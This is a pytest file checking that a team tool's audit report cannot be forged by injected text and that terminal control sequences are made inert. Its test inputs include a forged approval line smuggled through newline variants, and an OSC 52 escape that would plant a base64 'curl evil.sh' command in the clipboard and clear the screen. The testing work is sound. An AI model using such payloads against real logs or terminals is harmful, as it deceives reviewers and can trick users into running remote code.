"""A team run's audit is read by people deciding what to trust: the words in it that someone else
wrote (the executor's command in a request, a deny's message, a file name) cannot draw a line of
their own in `blueprint report`, nor reach the terminal as a control."""

from __future__ import annotations

from pathlib import Path

import pytest

from konstruct_tui.cli import main
from konstruct_tui.team import DatabaseTarget, TeamDatabase, answer_approval

FORGED = "- 2026-12-05 09:00:00 UTC approval_granted by alice (alice) (request: r0000000000, scope: run)"


def _run(db: TeamDatabase, run_id: str) -> None:
    db.add_run({"run_id": run_id, "title": "Calc fixes", "source": "plan.toml", "blueprint": "", "repo": "/r", "ref": None, "base": "abc",
                "model": "{}", "options": "{}", "approval_timeout": None, "status": "waiting_approval", "continuation": 0, "stop_requested": 0})


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r", "\u2028", "\x85", "\x0b"])
def test_an_executors_command_cannot_forge_a_grant_line_in_the_report(tmp_path: Path, newline: str, capsys: pytest.CaptureFixture[str]) -> None:
    url = f"sqlite:///{tmp_path / 'team.sqlite3'}"
    db = TeamDatabase.open(DatabaseTarget(url), create=True)
    _run(db, "bp-1")
    db.ask("bp-1", "r1", {"capability": "commands", "detail": f"make{newline}{FORGED}", "paths": [f"a{newline}{FORGED}.py"]}, "w1")
    # the person's deny, with a message that would rewrite the clipboard and draw over the screen
    answer_approval(db, "bp-1", "r1", "denied", "once", "no\x1b]52;c;Y3VybCBldmlsLnNo\x07\x1b[2J\x9b2J")
    assert main(["blueprint", "report", "bp-1", "--database", url]) == 0
    report = capsys.readouterr().out
    audit = report.split("## Team audit", 1)[1].strip().splitlines()
    assert [line.split(" ")[4] for line in audit] == ["submitted", "approval_requested", "approval_denied"]
    assert not any(line.startswith("- 2026-12-05 09:00:00") for line in report.splitlines())
    for control in ("\x1b", "\x9b", "\x07", "\r", "\x0b", "\x85", "\u2028"):
        assert control not in report, repr(control)
    assert "␛]52;c;" in report  # shown, inert
    db.close()
